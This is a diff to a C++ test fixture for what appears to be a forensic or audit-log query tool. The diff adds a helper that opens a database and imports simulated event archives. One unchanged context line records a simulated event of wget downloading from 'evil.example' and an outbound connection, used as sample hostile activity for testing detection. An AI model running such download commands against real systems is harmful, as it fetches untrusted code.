@@ -1,6 +1,10 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "queryfixture.h"
 
+#include "pgcluster.h"
+
+#include <QDir>
+
 using namespace Qt::StringLiterals;
 
 namespace Deck::TestSupport {
@@ -144,6 +148,27 @@ QueryScenario::QueryScenario(const QString &dir, const QString &suffix)
     archives << alpha.next({recStart(5000), exit(5010, 200), file(5020, 401, FileOp::Open, "/var/log/x")});
     archives << beta.next({exec(500, 1, u"wget"_s, {"/usr/bin/wget", "http://evil.example/y"}),
                            connect(85, 500, u"10.0.0.9"_s, u"203.0.113.5"_s, 443)});
+}
+
+std::unique_ptr<Core::Database> scenarioCase(const QString &engine, PgCluster *pg, const QString &dir,
+                                             const QString &name, QString *error)
+{
+    QString location = QDir(dir).filePath(name + u".flightcase"_s);
+    if (engine == "postgresql"_L1) {
+        location = pg ? pg->createDatabase(name, error) : QString();
+        if (location.isEmpty())
+            return nullptr;
+    }
+    auto opened = Core::Database::open(location);
+    if (!opened) {
+        *error = opened.error().message;
+        return nullptr;
+    }
+    const QString folder = QDir(dir).filePath(engine);
+    QDir().mkpath(folder);
+    QueryScenario scenario(folder, QString());
+    *error = trustAndImport(**opened, {&scenario.alpha, &scenario.beta}, scenario.archives);
+    return error->isEmpty() ? std::move(*opened) : nullptr;
 }
 
 } // namespace Deck::TestSupport
